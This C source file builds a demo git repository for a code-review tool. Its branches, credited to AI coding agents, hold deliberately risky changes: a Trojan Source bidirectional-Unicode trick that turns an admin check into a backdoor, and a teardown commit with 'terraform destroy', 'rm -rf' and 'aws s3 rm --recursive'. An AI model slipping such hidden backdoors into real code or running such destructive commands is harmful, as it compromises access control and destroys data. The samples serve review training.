/*
 * demo.c: builds the demo repository with libgit2 alone, so `revq demo`
 * works on a machine with no git configuration.
 */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <git2.h>

#include "cli/demo.h"
#include "base/error.h"
#include "git/repo.h"
#include "base/strbuf.h"

#define DAY (24 * 3600)
#define HOUR 3600
#define MARKER "revq-demo"

struct demo_file {
	const char *path;
	const char *content;   /* NULL removes the file */
	int executable;
};

struct person {
	const char *name;
	const char *email;
};

static const struct person priya = { "Priya Raman", "priya@example.com" };
static const struct person dana = { "Dana Kim", "dana@example.com" };
static const struct person raj = { "Raj Patel", "raj@example.com" };
static const struct person lena = { "Lena Fischer", "lena@example.com" };
static const struct person sam_aider = { "Sam Ortiz (aider)", "sam@example.com" };
static const struct person copilot = { "Copilot", "198982749+Copilot@users.noreply.github.com" };
static const struct person omar = { "Omar Haddad", "omar@example.com" };

/* ---- file contents ---- */

static const char readme[] =
	"# payments-api\n\n"
	"The service that takes card payments for the shop.\n\n"
	"## Running locally\n\n"
	"    pip install -r requirements.txt\n"
	"    python -m src.app\n\n"
	"## Deploying\n\n"
	"Merges to main are deployed to staging by the deploy workflow. Production\n"
	"deploys need a senior engineer's approval.\n";

static const char readme_fixed[] =
	"# payments-api\n\n"
	"The service that takes card payments for the shop.\n\n"
	"## Running locally\n\n"
	"    pip install -r requirements.txt\n"
	"    python -m src.app\n\n"
	"## Deploying\n\n"
	"Merges to main are deployed to staging by the deploy workflow. Production\n"
	"deployments need a senior engineer's approval; see docs/deploying.md.\n";

static const char app_py[] =
	"from flask import Flask, jsonify\n\n"
	"from src.auth import require_session\n\n"
	"app = Flask(__name__)\n\n\n"
	"@app.route(\"/health\")\n"
	"def health():\n"
	"    return jsonify(status=\"ok\")\n\n\n"
	"@app.route(\"/payments\", methods=[\"POST\"])\n"
	"@require_session\n"
	"def create_payment():\n"
	"    return jsonify(status=\"accepted\"), 202\n";

static const char auth_py[] =
	"import time\n\n"
	"SESSION_TTL_SECONDS = 15 * 60\n\n\n"
	"def session_valid(session):\n"
	"    if session is None:\n"
	"        return False\n"
	"    return time.time() - session.created < SESSION_TTL_SECONDS\n\n\n"
	"def is_admin(user):\n"
	"    return user.access_level == \"admin\"\n\n\n"
	"def require_session(view):\n"
	"    def wrapped(*args, **kwargs):\n"
	"        return view(*args, **kwargs)\n"
	"    return wrapped\n";

/* The session change hides a Trojan Source comment (U+202E, U+2066, U+2069). */
static const char auth_py_session[] =
	"import time\n\n"
	"SESSION_TTL_SECONDS = 8 * 60 * 60\n\n\n"
	"def session_valid(session):\n"
	"    if session is None:\n"
	"        return False\n"
	"    return time.time() - session.created < SESSION_TTL_SECONDS\n\n\n"
	"def is_admin(user):\n"
	"    if user.access_level != \"user\xe2\x80\xae \xe2\x81\xa6# Check if admin\xe2\x81\xa9 \xe2\x81\xa6\":\n"
	"        return True\n"
	"    return user.access_level == \"admin\"\n\n\n"
	"def require_session(view):\n"
	"    def wrapped(*args, **kwargs):\n"
	"        return view(*args, **kwargs)\n"
	"    return wrapped\n";

static const char requirements[] =
	"flask==2.3.3\n"
	"requests==2.31.0\n"
	"sqlalchemy==2.0.21\n";

static const char requirements_bumped[] =
	"flask==3.0.3\n"
	"requests==2.32.3\n"
	"sqlalchemy==2.0.35\n"
	"stripe==10.1.0\n";

static const char dockerfile[] =
	"FROM python:3.12-slim\n"
	"WORKDIR /srv\n"
	"COPY requirements.txt .\n"
	"RUN pip install --no-cache-dir -r requirements.txt\n"
	"COPY src ./src\n"
	"CMD [\"python\", \"-m\", \"src.app\"]\n";

static const char workflow[] =
	"name: deploy\n"
	"on:\n"
	"  push:\n"
	"    branches: [main]\n"
	"jobs:\n"
	"  staging:\n"
	"    runs-on: ubuntu-latest\n"
	"    steps:\n"
	"      - uses: actions/checkout@v4\n"
	"      - run: terraform -chdir=infra init\n"
	"      - run: terraform -chdir=infra apply -auto-approve\n";

static const char workflow_teardown[] =
	"name: deploy\n"
	"on:\n"
	"  push:\n"
	"    branches: [main]\n"
	"jobs:\n"
	"  staging:\n"
	"    runs-on: ubuntu-latest\n"
	"    steps:\n"
	"      - uses: actions/checkout@v4\n"
	"      - run: terraform -chdir=infra init\n"
	"      - run: terraform -chdir=infra destroy -auto-approve\n"
	"      - run: ./scripts/cleanup.sh\n";

static const char main_tf[] =
	"resource \"aws_db_instance\" \"payments\" {\n"
	"  identifier          = \"payments-staging\"\n"
	"  engine              = \"postgres\"\n"
	"  instance_class      = \"db.t3.medium\"\n"
	"  allocated_storage   = 50\n"
	"  deletion_protection = true\n"
	"  skip_final_snapshot = false\n"
	"}\n\n"
	"resource \"aws_s3_bucket\" \"receipts\" {\n"
	"  bucket = \"payments-staging-receipts\"\n"
	"}\n\n"
	"resource \"aws_s3_bucket_versioning\" \"receipts\" {\n"
	"  bucket = aws_s3_bucket.receipts.id\n"
	"  versioning_configuration {\n"
	"    status = \"Enabled\"\n"
	"  }\n"
	"}\n\n"
	"resource \"aws_ecs_service\" \"api\" {\n"
	"  name            = \"payments-api\"\n"
	"  cluster         = \"staging\"\n"
	"  desired_count   = 2\n"
	"  task_definition = \"payments-api:42\"\n"
	"}\n";

static const char main_tf_teardown[] =
	"resource \"aws_db_instance\" \"payments\" {\n"
	"  identifier          = \"payments-staging\"\n"
	"  engine              = \"postgres\"\n"
	"  instance_class      = \"db.t3.micro\"\n"
	"  allocated_storage   = 20\n"
	"  deletion_protection = false\n"
	"  skip_final_snapshot = true\n"
	"}\n\n"
	"resource \"aws_s3_bucket\" \"receipts\" {\n"
	"  bucket        = \"payments-staging-receipts\"\n"
	"  force_destroy = true\n"
	"}\n";

static const char variables_tf[] =
	"variable \"region\" {\n"
	"  default = \"eu-west-1\"\n"
	"}\n";

static const char cleanup_sh[] =
	"#!/bin/sh\n"
	"# Remove what terraform leaves behind on the runners.\n"
	"set -e\n"
	"rm -rf /var/lib/payments/cache/*\n"
	"aws s3 rm s3://payments-staging-receipts --recursive\n";

static const char migration_init[] =
	"CREATE TABLE users (\n"
	"    id          BIGSERIAL PRIMARY KEY,\n"
	"    email       TEXT NOT NULL UNIQUE,\n"
	"    legacy_plan TEXT,\n"
	"    created_at  TIMESTAMPTZ NOT NULL DEFAULT now()\n"
	");\n";

static const char migration_billing[] =
	"CREATE TABLE invoices (\n"
	"    id         BIGSERIAL PRIMARY KEY,\n"
	"    user_id    BIGINT NOT NULL REFERENCES users(id),\n"
	"    amount     NUMERIC(12, 2) NOT NULL,\n"
	"    currency   CHAR(3) NOT NULL,\n"
	"    issued_at  TIMESTAMPTZ NOT NULL DEFAULT now()\n"
	");\n\n"
	"CREATE INDEX invoices_user_id ON invoices(user_id);\n\n"
	"ALTER TABLE users DROP COLUMN legacy_plan;\n";

static const char billing_py[] =
	"from decimal import Decimal\n\n\n"
	"def invoice_total(lines):\n"
	"    return sum((Decimal(line.amount) for line in lines), Decimal(\"0\"))\n";

static const char billing_py_v2[] =
	"from decimal import Decimal, ROUND_HALF_EVEN\n\n\n"
	"def invoice_total(lines):\n"
	"    total = sum((Decimal(line.amount) for line in lines), Decimal(\"0\"))\n"
	"    return total.quantize(Decimal(\"0.01\"), rounding=ROUND_HALF_EVEN)\n";

static const char deploy_sh[] =
	"#!/bin/sh\n"
	"set -eu\n"
	"terraform -chdir=infra apply\n";

static const char docs_start[] =
	"# Getting started\n\n"
	"Install the dependancies, then run the the service:\n\n"
	"    pip install -r requirements.txt\n"
	"    python -m src.app\n\n"
	"The health endpoint is at /helth.\n";

static const char docs_start_fixed[] =
	"# Getting started\n\n"
	"Install the dependencies, then run the service:\n\n"
	"    pip install -r requirements.txt\n"
	"    python -m src.app\n\n"
	"The health endpoint is at /health.\n";

static const char ratelimit_py[] =
	"import time\n\n\n"
	"class TokenBucket:\n"
	"    def __init__(self, rate, burst):\n"
	"        self.rate = rate\n"
	"        self.tokens = burst\n"
	"        self.burst = burst\n"
	"        self.updated = time.monotonic()\n\n"
	"    def allow(self):\n"
	"        now = time.monotonic()\n"
	"        self.tokens = min(self.burst, self.tokens + (now - self.updated) * self.rate)\n"
	"        self.updated = now\n"
	"        if self.tokens >= 1:\n"
	"            self.tokens -= 1\n"
	"            return True\n"
	"        return False\n";

/* ---- building ---- */

static int update_tree(git_oid *out, git_repository *repo, const git_oid *base_tree,
		       const struct demo_file *files, size_t n)
{
	git_tree_update updates[16];
	git_tree *base = NULL;
	int rc;

	if (n > 16)
		return error_set(REVQ_ERROR, "demo: too many files in one commit");
	for (size_t i = 0; i < n; i++) {
		memset(&updates[i], 0, sizeof(updates[i]));
		updates[i].path = files[i].path;
		if (!files[i].content) {
			updates[i].action = GIT_TREE_UPDATE_REMOVE;
			continue;
		}
		updates[i].action = GIT_TREE_UPDATE_UPSERT;
		updates[i].filemode = files[i].executable ? GIT_FILEMODE_BLOB_EXECUTABLE
							  : GIT_FILEMODE_BLOB;
		if (git_blob_create_from_buffer(&updates[i].id, repo, files[i].content,
						strlen(files[i].content)))
			return error_set_git(REVQ_ERROR, "demo: cannot write %s", files[i].path);
	}
	if (base_tree && git_tree_lookup(&base, repo, base_tree))
		return error_set_git(REVQ_ERROR, "demo: cannot read tree");
	rc = git_tree_create_updated(out, repo, base, n, updates);
	git_tree_free(base);
	return rc ? error_set_git(REVQ_ERROR, "demo: cannot write tree") : 0;
}

struct demo {
	git_repository *repo;
	int64_t now;
};

static int commit(git_oid *out, struct demo *d, const git_oid *parent, const struct person *who,
		  int64_t ago, const char *message, const struct demo_file *files, size_t n)
{
	git_commit *parent_commit = NULL;
	git_signature *sig;
	git_oid tree_id;
	git_tree *tree;
	int rc;

	if (parent && git_commit_lookup(&parent_commit, d->repo, parent))
		return error_set_git(REVQ_ERROR, "demo: cannot read parent");
	rc = update_tree(&tree_id, d->repo, parent_commit ? git_commit_tree_id(parent_commit) : NULL,
			 files, n);
	if (rc) {
		git_commit_free(parent_commit);
		return rc;
	}
	if (git_tree_lookup(&tree, d->repo, &tree_id) ||
	    git_signature_new(&sig, who->name, who->email, (git_time_t)(d->now - ago), 0)) {
		git_commit_free(parent_commit);
		return error_set_git(REVQ_ERROR, "demo: cannot prepare commit");
	}
	rc = git_commit_create(out, d->repo, NULL, sig, sig, NULL, message, tree,
			       parent_commit ? 1 : 0, (const git_commit **)&parent_commit);
	git_signature_free(sig);
	git_tree_free(tree);
	git_commit_free(parent_commit);
	return rc ? error_set_git(REVQ_ERROR, "demo: cannot write commit") : 0;
}

static int branch(struct demo *d, const char *name, const git_oid *id)
{
	git_reference *ref;
	struct strbuf sb = STRBUF_INIT;
	int rc;

	strbuf_addf(&sb, "refs/heads/%s", name);
	rc = git_reference_create(&ref, d->repo, sb.buf, id, 1, "revq demo");
	strbuf_release(&sb);
	git_reference_free(ref);
	return rc ? error_set_git(REVQ_ERROR, "demo: cannot create branch %s", name) : 0;
}

#define FILES(...) (const struct demo_file[]){ __VA_ARGS__ }, \
	sizeof((const struct demo_file[]){ __VA_ARGS__ }) / sizeof(struct demo_file)

static int build_main(struct demo *d, git_oid *tip)
{
	git_oid c1, c2;
	int rc;

	rc = commit(&c1, d, NULL, &priya, 30 * DAY, "Initial payments service\n",
		    FILES({ "README.md", readme, 0 }, { "src/app.py", app_py, 0 },
			  { "src/auth.py", auth_py, 0 }, { "requirements.txt", requirements, 0 },
			  { "Dockerfile", dockerfile, 0 },
			  { ".github/workflows/deploy.yml", workflow, 0 },
			  { "infra/main.tf", main_tf, 0 }, { "infra/variables.tf", variables_tf, 0 },
			  { "db/migrations/0001_create_users.sql", migration_init, 0 },
			  { "scripts/deploy.sh", deploy_sh, 1 },
			  { "docs/getting-started.md", docs_start, 0 }));
	if (!rc)
		rc = commit(&c2, d, &c1, &omar, 20 * DAY, "Add billing helpers\n",
			    FILES({ "src/billing.py", billing_py, 0 }));
	if (!rc)
		rc = commit(tip, d, &c2, &priya, 14 * DAY,
			    "Document the deploy process\n\n"
			    "Spell out that production needs a senior approval.\n",
			    FILES({ "README.md", readme, 0 }, { "docs/deploying.md",
				  "# Deploying\n\nStaging deploys on merge. Production needs approval.\n",
				  0 }));
	return rc;
}

static int build_pending(struct demo *d, const git_oid *base)
{
	git_oid c, c2;
	int rc;

	rc = commit(&c, d, base, &dana, 2 * DAY + 3 * HOUR,
		    "Tear down the staging environment to cut costs\n\n"
		    "Staging has been idle for weeks. Destroy it in the deploy workflow,\n"
		    "drop the receipts bucket and the ECS service, and clean up the runners.\n\n"
		    "\xf0\x9f\xa4\x96 Generated with [Claude Code](https://claude.com/claude-code)\n\n"
		    "Co-Authored-By: Claude <noreply@anthropic.com>\n",
		    FILES({ "infra/main.tf", main_tf_teardown, 0 },
			  { ".github/workflows/deploy.yml", workflow_teardown, 0 },
			  { "scripts/cleanup.sh", cleanup_sh, 1 }));
	if (!rc)
		rc = branch(d, "ai/teardown-staging", &c);
	if (!rc)
		rc = commit(&c, d, base, &copilot, 5 * DAY,
			    "Add invoices table and drop legacy plan column\n\n"
			    "Co-authored-by: Raj Patel <raj@example.com>\n",
			    FILES({ "db/migrations/0002_invoices.sql", migration_billing, 0 }));
	if (!rc)
		rc = commit(&c2, d, &c, &copilot, 4 * DAY + 6 * HOUR,
			    "Round invoice totals to cents\n\n"
			    "Co-authored-by: Raj Patel <raj@example.com>\n",
			    FILES({ "src/billing.py", billing_py_v2, 0 }));
	if (!rc)
		rc = branch(d, "ai/invoices-migration", &c2);
	if (!rc)
		rc = commit(&c, d, base, &raj, 3 * DAY,
			    "Extend session lifetime to a working day\n\n"
			    "Support asked for fewer re-logins. Also tidy the admin check.\n\n"
			    "Co-authored-by: Cursor Agent <cursoragent@cursor.com>\n",
			    FILES({ "src/auth.py", auth_py_session, 0 }));
	if (!rc)
		rc = branch(d, "ai/session-lifetime", &c);
	if (!rc)
		rc = commit(&c, d, base, &sam_aider, 20 * HOUR,
			    "aider: Fix typos in the getting started guide\n",
			    FILES({ "docs/getting-started.md", docs_start_fixed, 0 },
				  { "README.md", readme_fixed, 0 }));
	if (!rc)
		rc = branch(d, "ai/docs-typos", &c);
	if (!rc)
		rc = commit(&c, d, base, &omar, 9 * DAY,
			    "Bump Flask, requests and SQLAlchemy; add stripe\n\n"
			    "Assisted-by: Codex:gpt-5-codex\n",
			    FILES({ "requirements.txt", requirements_bumped, 0 }));
	if (!rc)
		rc = branch(d, "ai/dependency-bump", &c);
	if (!rc)
		rc = commit(&c, d, base, &lena, 4 * DAY,
			    "Add a token bucket rate limiter\n",
			    FILES({ "src/ratelimit.py", ratelimit_py, 0 }));
	if (!rc)
		rc = branch(d, "feature/rate-limiting", &c);
	return rc;
}

static int dir_state(const char *dir, int *exists, int *empty)
{
	DIR *dh = opendir(dir);
	struct dirent *e;

	*exists = *empty = 0;
	if (!dh)
		return errno == ENOENT ? 0 : error_set(REVQ_ERROR, "cannot open %s: %s", dir,
							strerror(errno));
	*exists = *empty = 1;
	while ((e = readdir(dh)))
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			*empty = 0;
	closedir(dh);
	return 0;
}

static int is_demo(const char *dir)
{
	struct strbuf sb = STRBUF_INIT;
	int rc;

	strbuf_addf(&sb, "%s/.git/" MARKER, dir);
	rc = access(sb.buf, F_OK) == 0;
	strbuf_release(&sb);
	return rc;
}

static int finish(struct demo *d, const char *dir, const git_oid *main_tip)
{
	git_checkout_options co;
	git_reference *ref;
	struct strbuf sb = STRBUF_INIT;
	FILE *f;

	if (git_reference_create(&ref, d->repo, "refs/heads/main", main_tip, 1, "revq demo"))
		return error_set_git(REVQ_ERROR, "demo: cannot create main");
	git_reference_free(ref);
	if (git_repository_set_head(d->repo, "refs/heads/main"))
		return error_set_git(REVQ_ERROR, "demo: cannot set HEAD");
	git_checkout_options_init(&co, GIT_CHECKOUT_OPTIONS_VERSION);
	co.checkout_strategy = GIT_CHECKOUT_FORCE;
	if (git_checkout_head(d->repo, &co))
		return error_set_git(REVQ_ERROR, "demo: cannot check out main");
	strbuf_addf(&sb, "%s/.git/" MARKER, dir);
	f = fopen(sb.buf, "w");
	if (f) {
		fputs("created by revq demo\n", f);
		fclose(f);
	}
	strbuf_release(&sb);
	return 0;
}

int demo_create(const char *dir, int64_t now, int *existed)
{
	struct demo d = { NULL, now };
	int exists, empty, rc;
	git_oid main_tip;

	*existed = 0;
	if ((rc = dir_state(dir, &exists, &empty)))
		return rc;
	if (exists && is_demo(dir)) {
		*existed = 1;
		return 0;
	}
	if (exists && !empty)
		return error_set(REVQ_EUSAGE, "%s exists and is not empty; choose another directory",
				 dir);
	repo_library_init();
	if (git_repository_init(&d.repo, dir, 0))
		return error_set_git(REVQ_ERROR, "demo: cannot create repository in %s", dir);
	rc = build_main(&d, &main_tip);
	if (!rc)
		rc = build_pending(&d, &main_tip);
	if (!rc)
		rc = finish(&d, dir, &main_tip);
	git_repository_free(d.repo);
	return rc;
}
